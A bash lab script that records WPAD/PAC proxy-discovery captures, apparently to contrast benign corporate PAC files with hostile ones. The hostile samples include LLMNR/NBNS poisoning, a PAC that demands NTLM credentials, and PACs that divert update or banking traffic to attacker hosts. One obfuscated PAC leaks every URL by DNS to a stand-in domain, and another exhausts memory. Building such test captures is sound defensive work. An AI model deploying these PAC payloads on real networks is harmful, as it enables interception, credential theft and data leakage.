#!/usr/bin/env bash
# Records captures/pac: who serves the proxy configuration. Usage: pac.sh [SCENE...]; without arguments all scenes.
# Packages: lab.sh's, and dnsmasq-base isc-dhcp-client nginx-light curl python3.
. "$(dirname "$0")/lab.sh"

office() {
  lab_host gw 3c:52:82:11:00:01 10.4.0.1/24
  lab_host proxy 3c:52:82:11:00:08 10.4.0.8/24
  lab_host pc 3c:52:82:11:00:21
  lab_host lap 3c:52:82:11:00:22
  dns_dhcp gw --dhcp-range=10.4.0.100,10.4.0.120,1h --domain=corp.example --address=/wpad.corp.example/10.4.0.8 --dhcp-option=252,http://wpad.corp.example/wpad.dat
  pause 1
}
# script HOST: nginx on the host, serving standard input as wpad.dat and proxy.pac.
script() { mkdir -p "$lab_tmp/$1.www"; cat >"$lab_tmp/$1.www/wpad.dat"; cp "$lab_tmp/$1.www/wpad.dat" "$lab_tmp/$1.www/proxy.pac"; web "$1" "$lab_tmp/$1.www"; pause 0.5; }
windows() { try "$1" curl -s -m 3 -A 'WinHttp-Autoproxy-Service/5.1' -H "Host: $2" "$3"; }

# A workstation (DHCP client) lures by LLMNR and serves the PAC on a port of its own.
scene_rogue_pac_server() {
  office
  lab_host rogue 00:0c:29:6e:00:66
  record_start
  lease rogue; lease pc
  local ip; ip=$(on rogue ip -4 -br addr show eth0 | awk '{print $3}' | cut -d/ -f1)
  daemon rogue python3 "$make_dir/poisoner.py" "$ip" --only 'wpad|proxysrv'
  daemon rogue python3 "$make_dir/pac_server.py" 8000 reindented "$ip:3128"
  pause 1
  try pc python3 "$make_dir/ask.py" llmnr wpad
  windows pc wpad http://$ip:8000/config/auto.dat
}

# The company's own server: found by DHCP and DNS, the same file for everybody.
scene_corporate_pac() {
  office
  pac "$lab_tmp/www/wpad.dat" proxy.corp.example:8080; web proxy "$lab_tmp/www"
  record_start
  for h in pc lap; do
    lease $h
    try $h dig +tries=1 +time=1 @10.4.0.1 wpad.corp.example
    windows $h wpad.corp.example http://10.4.0.8/wpad.dat
    windows $h wpad.corp.example http://10.4.0.8/wpad.dat
  done
}

scene_pac_changed() {
  office
  daemon proxy python3 "$make_dir/pac_server.py" 80 changing 10.4.0.8
  record_start
  lease pc
  try pc dig +tries=1 +time=1 @10.4.0.1 wpad.corp.example
  for _ in 1 2 3; do windows pc wpad.corp.example http://10.4.0.8/wpad.dat; pause 0.5; done
}

# Only the white space changes.
scene_pac_reindented() {
  office
  daemon proxy python3 "$make_dir/pac_server.py" 80 reindented proxy.corp.example:8080
  record_start
  lease pc
  try pc dig +tries=1 +time=1 @10.4.0.1 wpad.corp.example
  for _ in 1 2 3; do windows pc wpad.corp.example http://10.4.0.8/wpad.dat; pause 0.5; done
}

# The PAC is to be had only for an NTLM authentication.
scene_pac_asks_credentials() {
  office
  lab_host rogue 00:0c:29:6e:00:66 10.4.0.66/24
  daemon rogue python3 "$make_dir/poisoner.py" 10.4.0.66 --only wpad
  daemon rogue python3 "$make_dir/pac_server.py" 80 ntlm 10.4.0.66:3128
  record_start
  lease pc
  try pc python3 "$make_dir/ask.py" llmnr wpad
  try pc curl -s -m 3 --ntlm -u 'CORP\alice:not-a-secret' -A 'WinHttp-Autoproxy-Service/5.1' -H 'Host: wpad' http://10.4.0.66/wpad.dat
}

scene_pac_known_tool() {
  office
  lab_host rogue 00:0c:29:6e:00:66 10.4.0.66/24
  daemon rogue python3 "$make_dir/poisoner.py" 10.4.0.66 --only wpad
  daemon rogue python3 "$make_dir/pac_server.py" 80 tool 10.4.0.66:3128
  record_start
  lease pc
  try pc python3 "$make_dir/ask.py" nbns WPAD
  windows pc wpad http://10.4.0.66/wpad.dat
}

# Flame's way: NBNS leads to a PAC that sends the update hosts, and nothing else, to the host itself.
scene_pac_diverts_updates() {
  office
  lab_host rogue 00:0c:29:6e:00:66 10.4.0.66/24
  daemon rogue python3 "$make_dir/poisoner.py" 10.4.0.66 --only wpad
  script rogue <<'PAC'
function FindProxyForURL(url, host) {
  if (dnsDomainIs(host, ".windowsupdate.com") || dnsDomainIs(host, "update.microsoft.com")) return "PROXY 10.4.0.66:8080; DIRECT";
  return "DIRECT";
}
PAC
  record_start
  lease pc
  try pc python3 "$make_dir/ask.py" nbns WPAD
  windows pc wpad http://10.4.0.66/wpad.dat
}

# The company's file: inside and updates directly, the rest through its proxy.
scene_pac_split_tunnel() {
  office
  script proxy <<'PAC'
function FindProxyForURL(url, host) {
  if (isPlainHostName(host) || dnsDomainIs(host, ".corp.example") || isInNet(host, "10.0.0.0", "255.0.0.0")) return "DIRECT";
  if (shExpMatch(host, "*.windowsupdate.com") || shExpMatch(host, "*update.microsoft.com") || shExpMatch(host, "*.mp.microsoft.com")) return "DIRECT";
  return "PROXY proxy.corp.example:8080";
}
PAC
  record_start
  for h in pc lap; do
    lease $h
    try $h dig +tries=1 +time=1 @10.4.0.1 wpad.corp.example
    windows $h wpad.corp.example http://10.4.0.8/wpad.dat
  done
}

# Nobody was lured; the file on the intranet server sends banks alone to a stranger.
scene_pac_diverts_everything() {
  office
  lab_host intranet 3c:52:82:11:00:09 10.4.0.9/24
  script intranet <<'PAC'
function FindProxyForURL(url, host) {
  var watched = ["*.paypal.com", "*.sparkasse.de", "*.deutsche-bank.de", "*.mybank.example"];
  for (var i = 0; i < watched.length; i++)
    if (shExpMatch(host, watched[i])) return "SOCKS5 198.51.100.23:1080";
  return "DIRECT";
}
PAC
  record_start
  lease pc
  windows pc intranet http://10.4.0.9/wpad.dat
}

# Load shared over three proxies by the host's length, exceptions directly: nobody is singled out.
scene_pac_shared_load() {
  office
  script proxy <<'PAC'
var proxies = ["PROXY proxy1.corp.example:8080", "PROXY proxy2.corp.example:8080", "PROXY proxy3.corp.example:8080"];
function FindProxyForURL(url, host) {
  if (isPlainHostName(host) || localHostOrDomainIs(host, "owa.corp.example")) return "DIRECT";
  if (dnsDomainIs(host, "outlook.office365.com") || dnsDomainIs(host, "login.microsoftonline.com")) return "DIRECT";
  return proxies[host.length % 3] + "; " + proxies[(host.length + 1) % 3];
}
PAC
  record_start
  lease pc
  try pc dig +tries=1 +time=1 @10.4.0.1 wpad.corp.example
  windows pc wpad.corp.example http://10.4.0.8/wpad.dat
}

# Packed crimeware that also tells its author every URL by DNS.
scene_pac_suspicious_code() {
  office
  lab_host web 3c:52:82:11:00:09 10.4.0.9/24
  script web <<'PAC'
var k = String.fromCharCode(80, 82, 79, 88, 89, 32, 49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46, 50, 51, 58, 56, 48);
function FindProxyForURL(u, h) {
  var told = u.replace(/[^a-z0-9]/gi, "-").substr(0, 60);
  isResolvable(told + ".t.example.net");
  return eval(unescape("%28h%2elength%20%3e%2099%20%3f%20k%20%3a%20%27DIRECT%27%29"));
}
PAC
  record_start
  lease pc
  windows pc web http://10.4.0.9/proxy.pac
}

# What real files do: look-ups of the host, subnets of the client, office hours, text put together, a helper for old engines.
scene_pac_ordinary_code() {
  office
  script proxy <<'PAC'
if (!String.prototype.endsWith) String.prototype.endsWith = function (s) { return this.indexOf(s, this.length - s.length) !== -1; };
var port = ":8080", main = "PROXY proxy.corp.example" + port, branch = "PROXY branch.corp.example" + port;
function FindProxyForURL(url, host) {
  host = host.toLowerCase();
  var ip = dnsResolve(host);
  if (isPlainHostName(host) || isInNet(ip, "10.0.0.0", "255.0.0.0") || isInNet(ip, "192.168.0.0", "255.255.0.0")) return "DIRECT";
  if (url.substring(0, 4) == "ftp:" || host.endsWith(".corp.example")) return "DIRECT";
  if (isInNet(myIpAddress(), "10.9.0.0", "255.255.0.0")) return branch + "; " + main;
  if (weekdayRange("MON", "FRI") && timeRange(7, 19)) return main;
  return main + "; DIRECT";
}
PAC
  record_start
  lease pc
  try pc dig +tries=1 +time=1 @10.4.0.1 wpad.corp.example
  windows pc wpad.corp.example http://10.4.0.8/wpad.dat
}

# Stops whoever runs it.
scene_pac_hostile() {
  office
  lab_host web 3c:52:82:11:00:09 10.4.0.9/24
  script web <<'PAC'
var kept = [];
function FindProxyForURL(url, host) {
  while (true) kept.push(new Array(10000).join(host));
}
PAC
  record_start
  lease pc
  windows pc web http://10.4.0.9/proxy.pac
}

# 3,000 rules, as large sites have: long, and honest.
scene_pac_large() {
  office
  { echo 'function FindProxyForURL(url, host) {'
    for i in $(seq 3000); do echo "  if (dnsDomainIs(host, \".partner$i.example\")) return \"PROXY proxy$((i % 4)).corp.example:8080\";"; done
    echo '  return "PROXY proxy.corp.example:8080; DIRECT";'; echo '}'; } | script proxy
  record_start
  lease pc
  try pc dig +tries=1 +time=1 @10.4.0.1 wpad.corp.example
  windows pc wpad.corp.example http://10.4.0.8/wpad.dat
}

# wpad.dat is not there; elsewhere a captive portal answers it with HTML.
scene_no_pac_there() {
  office
  mkdir -p "$lab_tmp/www"; web proxy "$lab_tmp/www"
  lab_host portal 3c:52:82:11:00:09 10.4.0.9/24
  daemon portal python3 "$make_dir/pac_server.py" 80 portal -
  record_start
  lease pc; lease lap
  try pc dig +tries=1 +time=1 @10.4.0.1 wpad.corp.example
  windows pc wpad.corp.example http://10.4.0.8/wpad.dat
  windows lap wpad.corp.example http://10.4.0.9/wpad.dat
}

run_scenes pac "$@"
